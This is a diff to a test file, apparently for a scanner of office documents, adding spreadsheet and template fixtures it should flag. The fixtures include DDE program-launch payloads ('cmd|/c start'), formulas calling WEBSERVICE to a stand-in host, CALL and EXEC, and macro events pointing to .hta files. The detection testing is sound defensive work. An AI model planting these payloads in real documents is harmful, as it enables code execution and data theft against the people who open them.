@@ -129,6 +129,13 @@ const PACKED: readonly (readonly [what: string, name: string, bytes: Buffer])[] 
     }),
   ],
   ['a form with a check box', 'form.xlsx', workbook('<x:FmlaLink>$B$2</x:FmlaLink>')],
+  [
+    'a form with a list and a shape that shows a cell',
+    'form.xlsx',
+    workbook(
+      '<x:FmlaRange>Lists!$A$1:$A$9</x:FmlaRange><xdr:sp macro="" textlink="Sheet1!$A$1"/><t>The macro = "x"</t>',
+    ),
+  ],
   ...[
     'script:language="ooo:StarBasic" script:event-name="office:new" script:macro-name="application:Template.Correspondence.Main"',
     'script:language="ooo:script" script:event-name="office:new" xlink:href="vnd.sun.star.script:Template.Correspondence.Main?language=Basic&amp;location=application" xlink:type="simple"',
@@ -250,6 +257,45 @@ test.each<[string, string, Buffer, string]>([
     workbook('', { 'xl/drawings/drawing1.xml': '<xdr:sp macro="[1]!Go" textlink=""/>' }),
     'office-action',
   ],
+  ...[
+    `<x:FmlaLink>cmd|'/c start'!A1</x:FmlaLink>`,
+    '<x:FmlaLink>cmd|&apos;/c start&apos;!A1</x:FmlaLink>',
+    `<x:FmlaRange>cmd|'/c start'!A1</x:FmlaRange>`,
+    `<x:FmlaTxbx>MSEXCEL|'\\..\\..\\a.exe'!A1</x:FmlaTxbx>`,
+    `<formControlPr objectType="CheckBox" fmlaLink="cmd|'/c start'!A1"/>`,
+    `<formControlPr objectType="List" fmlaRange="cmd|'/c start'!A1"/>`,
+    `<xdr:sp macro="" textlink="cmd|'/c start'!A1"/>`,
+  ].map((control): [string, string, Buffer, string] => [
+    'a control whose cell starts a program',
+    'form.xlsx',
+    workbook(control),
+    'dde-starts-program',
+  ]),
+  ...[
+    '<x:FmlaLink>WEBSERVICE("https://host.example/"&amp;A1)</x:FmlaLink>',
+    '<x:FmlaRange>CALL("a.dll","b","J")</x:FmlaRange>',
+    '<formControlPr fmlaTxbx="EXEC(&quot;a.exe&quot;)"/>',
+    '<xdr:sp textlink="HYPERLINK(&quot;file://host.example/a.exe&quot;)"/>',
+  ].map((control): [string, string, Buffer, string] => [
+    'a control with a formula that calls out',
+    'form.xlsx',
+    workbook(control),
+    'office-dangerous-formula',
+  ]),
+  ...[
+    ' script:macro-name="application:Template.Correspondence.Main" xlink:href="file:///a.hta"',
+    ' script:macro-name="application:Template.Correspondence.Main/../Standard"',
+    ' script:macro-name="application:Tools.Misc.Shell"',
+    ' script:macro-name="application:Template.Correspondence.Main" script:macro-name="Standard.Module1.Main"',
+    ' xlink:href="vnd.sun.star.script:Template.Correspondence.Main?language=Basic&amp;location=application&amp;location=document"',
+    ' xlink:href="vnd.sun.star.script:Template.Correspondence.Main?language=JavaScript&amp;location=application"',
+    ' xlink:href="vnd.sun.star.script:Template.Correspondence.Main(calc)?language=Basic&amp;location=application"',
+  ].map((event): [string, string, Buffer, string] => [
+    'an event like that of the assistant',
+    'letter.ott',
+    letter(`script:language="ooo:script" script:event-name="office:new"${event}`),
+    'office-custom-code',
+  ]),
   ['a script alone in a folder', 'a.zip', zipOf({ 'order/order.js': 'var a = 1;\n' }), 'archive-executable'],
   [
     'a script beside a note',
